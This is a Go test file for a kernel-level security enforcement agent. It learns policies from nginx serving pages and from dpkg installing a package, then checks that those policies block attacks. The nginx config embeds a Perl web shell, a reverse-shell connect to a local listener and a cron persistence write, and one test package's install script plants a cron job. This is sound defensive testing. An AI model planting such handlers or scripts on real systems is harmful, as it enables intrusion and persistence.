package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pavise-project/pavise/agent"
	"github.com/pavise-project/pavise/enforce"
	"github.com/pavise-project/pavise/internal/kerntest"
)

// learnAgent runs an agent on this kernel, and returns what runs commands of the command line against it.
func learnAgent(t *testing.T) (cli func(args ...string) (code int, stdout, stderr string), client *agent.Client) {
	t.Helper()
	kerntest.Require(t, kerntest.Root, kerntest.Syscall, kerntest.TpBtf)
	k, err := enforce.Open(t.Context(), enforce.Options{})
	if err != nil {
		t.Fatal(err)
	}
	socket := filepath.Join(t.TempDir(), "s")
	ready, done := make(chan struct{}), make(chan error, 1)
	a, err := agent.New(agent.Config{
		Socket: socket, StateDir: t.TempDir(), Kernel: k, Log: slog.New(slog.DiscardHandler), OnReady: func(*agent.Status) { close(ready) },
	})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Minute)
	go func() { done <- a.Run(ctx) }()
	select {
	case <-ready:
	case err := <-done:
		cancel()
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	client = agent.NewClient(socket)
	t.Cleanup(client.Close)
	return func(args ...string) (int, string, string) {
		var out, errs bytes.Buffer
		a := newApp()
		a.stdin, a.stdout, a.stderr, a.terminal = strings.NewReader(""), &out, &errs, false
		code := a.main(append(args, "--socket", socket))
		return code, out.String(), errs.String()
	}, client
}

// learnFrom learns what work does, and returns the policy's file in mode: enforce.
func learnFrom(t *testing.T, cli func(...string) (int, string, string), client *agent.Client, subject string, work func()) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "learned.yaml")
	if _, err := client.StartLearning(t.Context(), agent.LearnRequest{Subject: subject, For: 10 * time.Minute}); err != nil {
		t.Fatal(err)
	}
	work()
	code, _, stderr := cli("learn", "--end", "-f", file)
	if code != exitOK {
		t.Fatalf("learn: exit code %d, %s", code, stderr)
	}
	t.Log(stderr)
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%s", data)
	if code, _, stderr := cli("apply", "-f", file); code != exitOK {
		t.Fatalf("apply what was learned: exit code %d, %s", code, stderr)
	}
	if ps, _, err := client.Policies(t.Context()); err != nil || len(ps) != 1 || ps[0].Mode != "monitor" {
		t.Errorf("%v: a policy that was learned is not in mode monitor: %+v", err, ps)
	}
	enforced := strings.Replace(string(data), "\n  mode: monitor\n", "\n  mode: enforce\n  fallback: kill\n", 1)
	if err := os.WriteFile(file, []byte(enforced), 0o600); err != nil {
		t.Fatal(err)
	}
	return file
}

// refusals are the acts that the policy refused, by what it said when asked; why is for the log.
func refusals(t *testing.T, client *agent.Client) (n uint64) {
	t.Helper()
	p, err := client.Policy(t.Context(), "learned")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range p.Rules {
		if strings.HasPrefix(r.Name, "default/") {
			n += r.Hits
		}
	}
	return n
}

// told prints the last events that refuse, for a test that failed.
func told(t *testing.T, cli func(...string) (int, string, string)) {
	t.Helper()
	_, out, _ := cli("events", "--where", `policy == "learned" && action in ["deny", "kill"]`)
	t.Log(out)
}

const nginxConfig = `
load_module %[1]s/usr/lib/nginx/modules/ngx_http_perl_module.so;
user root;
daemon off;
worker_processes 1;
pid %[2]s/nginx.pid;
error_log %[2]s/error.log;
events { worker_connections 64; }
http {
  access_log %[2]s/access.log;
  client_body_temp_path %[2]s/body; proxy_temp_path %[2]s/proxy; fastcgi_temp_path %[2]s/fastcgi; uwsgi_temp_path %[2]s/uwsgi; scgi_temp_path %[2]s/scgi;
  perl_modules %[6]s;
  server {
    listen 127.0.0.1:%[3]d;
    root %[2]s/www;
    # What an intruder has put there.
    location /shell { perl 'sub { my $r = shift; $r->send_http_header("text/plain"); my $o = qx{echo pwned > %[2]s/pwned; echo pwned}; $r->print($o); return 0; }'; }
    location /reverse { perl 'sub { my $r = shift; my $ok = "no"; if (socket(S, 2, 1, 6) && connect(S, pack("S n C4 x8", 2, %[4]d, 127, 0, 0, 1))) { syswrite S, "shell\n"; $ok = "yes"; } close S; $r->send_http_header("text/plain"); $r->print($ok); return 0; }'; }
    location /persist { perl 'sub { my $r = shift; my $ok = "no"; if (open(my $f, ">", "%[5]s")) { print $f "# test\n"; close $f; $ok = "yes"; } $r->send_http_header("text/plain"); $r->print($ok); return 0; }'; }
  }
}
`

// TestKernelLearnServer learns nginx serving files. The policy lets the same be done again, and stops a web shell, a reverse shell and a write to a
// place of persistence, which are there all the time: without the policy each works.
func TestKernelLearnServer(t *testing.T) {
	root, err := filepath.Abs("../../.cache/workloads")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(root + "/usr/sbin/nginx"); err != nil {
		t.Skip("there is no nginx in .cache/workloads: make test fetches it")
	}
	cli, client := learnAgent(t)
	dir, err := os.MkdirTemp("", "learn")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	persist := dir + "/cron.d-job"
	if kerntest.VM() != "" {
		persist = "/etc/cron.d/pavise-test" // the machine's file system is of memory there
		if err := os.MkdirAll("/etc/cron.d", 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for i := range 12 {
		name := fmt.Sprintf("%s/www/page%c.html", dir, 'a'+i)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, fmt.Appendf(nil, "page %d", i), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	back, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer back.Close()
	reached := make(chan struct{}, 16)
	go func() {
		for {
			c, err := back.Accept()
			if err != nil {
				return
			}
			c.Close()
			reached <- struct{}{}
		}
	}()
	one := func(pattern string) string {
		t.Helper()
		names, err := filepath.Glob(root + pattern)
		if err != nil || len(names) == 0 {
			t.Fatalf("no %s in %s: %v", pattern, root, err)
		}
		return names[0]
	}
	port := freePort(t)
	config := fmt.Sprintf(nginxConfig, root, dir, port, back.Addr().(*net.TCPAddr).Port, persist, one("/usr/lib/*/perl5/5.*"))
	if err := os.WriteFile(dir+"/nginx.conf", []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	url := fmt.Sprintf("http://127.0.0.1:%d", port)
	get := func(path string) (string, error) {
		c := http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
		r, err := c.Get(url + path)
		if err != nil {
			return "", err
		}
		defer r.Body.Close()
		b, err := io.ReadAll(r.Body)
		return string(b), err
	}
	// start runs nginx until the returned function is called.
	start := func() (stop func()) {
		t.Helper()
		c := exec.Command(root+"/usr/sbin/nginx", "-c", dir+"/nginx.conf", "-p", dir)
		c.Env = append(os.Environ(), "LD_LIBRARY_PATH="+one("/usr/lib/*-linux-gnu"))
		c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		var errs bytes.Buffer
		c.Stderr = &errs
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		end := func() { // and its worker, when the server was killed
			_ = c.Process.Signal(os.Interrupt)
			_ = c.Wait()
			_ = syscall.Kill(-c.Process.Pid, syscall.SIGKILL)
		}
		for range 300 {
			if _, err := get("/pagea.html"); err == nil {
				return end
			}
			time.Sleep(100 * time.Millisecond)
		}
		end()
		told(t, cli)
		t.Fatalf("nginx does not answer: %s", errs.String())
		return nil
	}
	serve := func(pages int) {
		t.Helper()
		stop := start()
		defer stop()
		for i := range pages {
			if b, err := get(fmt.Sprintf("/page%c.html", 'a'+i)); err != nil || b != fmt.Sprintf("page %d", i) {
				t.Errorf("page %d: %q, %v", i, b, err)
			}
		}
		if b, err := get("/missing.html"); err != nil || !strings.Contains(b, "404") {
			t.Errorf("a page that is not there: %q, %v", b, err)
		}
	}
	// attacks returns which of the three work.
	attacks := func() (worked []string) {
		t.Helper()
		for len(reached) > 0 {
			<-reached
		}
		for _, name := range []string{"/shell", "/reverse", "/persist"} {
			stop := start() // the one before may have cost the server its life
			_, _ = get(name)
			stop()
		}
		for _, name := range []string{dir + "/pwned", persist} {
			if st, err := os.Stat(name); err == nil && st.Size() > 0 {
				worked = append(worked, name)
			}
			_ = os.Remove(name)
		}
		select {
		case <-reached:
			worked = append(worked, "reverse shell")
		case <-time.After(200 * time.Millisecond):
		}
		return worked
	}
	if worked := attacks(); len(worked) != 3 {
		t.Fatalf("without a policy, only these work: %v", worked)
	}
	exe := root + "/usr/sbin/nginx"
	subject := fmt.Sprintf("process.exe.path == %[1]q || process.ancestors.exists(a, a.exe.path == %[1]q)", exe)
	// Two thirds of the pages: the rest are of the same directory.
	file := learnFrom(t, cli, client, subject, func() { serve(8) })
	if code, _, stderr := cli("apply", "-f", file); code != exitOK {
		t.Fatalf("enforce what was learned: exit code %d, %s", code, stderr)
	}
	serve(12)
	if n := refusals(t, client); n != 0 {
		told(t, cli)
		t.Errorf("the same work again was refused %d times", n)
	}
	if worked := attacks(); len(worked) != 0 {
		t.Errorf("these work although the policy is enforced: %v", worked)
	}
	if n := refusals(t, client); n < 3 {
		t.Errorf("%d refusals were told, of three attacks", n)
	}
	if code, _, stderr := cli("delete", "policy", "learned"); code != exitOK {
		t.Fatal(stderr)
	}
	if worked := attacks(); len(worked) != 3 {
		t.Errorf("after the policy was taken away, only these work: %v", worked)
	}
}

func freePort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// TestKernelLearnInstall learns the installation of a package. The policy lets it be installed again, and stops what another package's script does.
func TestKernelLearnInstall(t *testing.T) {
	for _, tool := range []string{"dpkg", "dpkg-deb"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip(kerntest.NotExpected + tool + " is not installed: this is not Debian")
		}
	}
	cli, client := learnAgent(t)
	dir, err := os.MkdirTemp("", "learn")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	// build makes a package whose script does something.
	build := func(name, script string) string {
		t.Helper()
		tree := filepath.Join(dir, name)
		for path, text := range map[string]string{
			"DEBIAN/control":          "Package: " + name + "\nVersion: 1\nArchitecture: all\nMaintainer: Test <test@example.org>\nDescription: a test\n",
			"DEBIAN/conffiles":        "/etc/hello.conf\n",
			"DEBIAN/postinst":         "#!/bin/sh\nset -e\n" + script,
			"usr/bin/hello":           "#!/bin/sh\necho hello\n",
			"usr/share/doc/hello/doc": "hello\n",
			"etc/hello.conf":          "greeting=hello\n",
		} {
			must(os.MkdirAll(filepath.Dir(filepath.Join(tree, path)), 0o755))
			must(os.WriteFile(filepath.Join(tree, path), []byte(text), 0o755))
		}
		out, err := exec.Command("dpkg-deb", "--root-owner-group", "--build", tree, dir+"/"+name+".deb").CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		return dir + "/" + name + ".deb"
	}
	install := func(deb string) (string, error) {
		t.Helper()
		must(os.RemoveAll(dir + "/admin"))
		must(os.RemoveAll(dir + "/root"))
		for _, d := range []string{"/admin/info", "/admin/updates", "/admin/triggers", "/root/var/lib"} {
			must(os.MkdirAll(dir+d, 0o755))
		}
		must(os.WriteFile(dir+"/admin/status", nil, 0o644))
		must(os.WriteFile(dir+"/admin/available", nil, 0o644))
		c := exec.Command("dpkg", "--admindir="+dir+"/admin", "--instdir="+dir+"/root", "--force-script-chrootless", "--force-depends", "--log="+dir+"/log", "-i", deb)
		c.Env = append(os.Environ(), "DPKG_MAINTSCRIPT_DEBUG=0")
		out, err := c.CombinedOutput()
		return string(out), err
	}
	hello := build("hello", "mkdir -p "+dir+"/root/var/lib/hello\necho ready > "+dir+"/root/var/lib/hello/state\n")
	evil := build("evil", "echo '* * * * * root id' > "+dir+"/cron.d-job\n")
	installed := func() {
		t.Helper()
		out, err := install(hello)
		if state, rerr := os.ReadFile(dir + "/root/var/lib/hello/state"); err != nil || rerr != nil || string(state) != "ready\n" {
			told(t, cli)
			t.Fatalf("the package is not installed: %v, %v: %s", err, rerr, out)
		}
	}
	if _, err := install(evil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(dir + "/cron.d-job"); err != nil {
		t.Fatalf("without a policy, the other package's script does not work: %v", err)
	}
	must(os.Remove(dir + "/cron.d-job"))
	subject := `process.exe.name == "dpkg" || process.ancestors.exists(a, a.exe.name == "dpkg")`
	file := learnFrom(t, cli, client, subject, installed)
	if code, _, stderr := cli("apply", "-f", file); code != exitOK {
		t.Fatalf("enforce what was learned: exit code %d, %s", code, stderr)
	}
	installed()
	if n := refusals(t, client); n != 0 {
		told(t, cli)
		t.Errorf("the same installation again was refused %d times", n)
	}
	out, err := install(evil)
	if b, rerr := os.ReadFile(dir + "/cron.d-job"); rerr == nil && len(b) > 0 {
		t.Errorf("the other package's script wrote %q: %v: %s", b, err, out)
	}
	if n := refusals(t, client); n == 0 {
		t.Error("what the other package's script did was not refused")
	}
}
